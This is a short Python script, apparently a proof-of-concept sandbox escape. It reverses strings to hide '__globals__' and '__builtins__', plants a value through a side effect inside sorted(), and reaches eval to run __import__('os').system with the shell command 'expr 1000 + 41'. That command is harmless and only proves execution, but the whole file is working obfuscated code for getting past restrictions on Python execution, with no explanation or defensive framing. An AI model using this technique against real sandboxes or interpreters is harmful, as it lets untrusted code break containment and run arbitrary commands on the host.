def rev(t):
    return t[::-1]
E = rev("__slabolg__")
d = {"a": "zone"}
import operator
class O:
    def m(self, x):
        x["a"] = E
        return 0
sorted([O()], key=operator.methodcaller("m", d))
getattr(rev, d["a"])[rev("__snitliub__")].eval("__import__('os').system('expr 1000 + 41')")
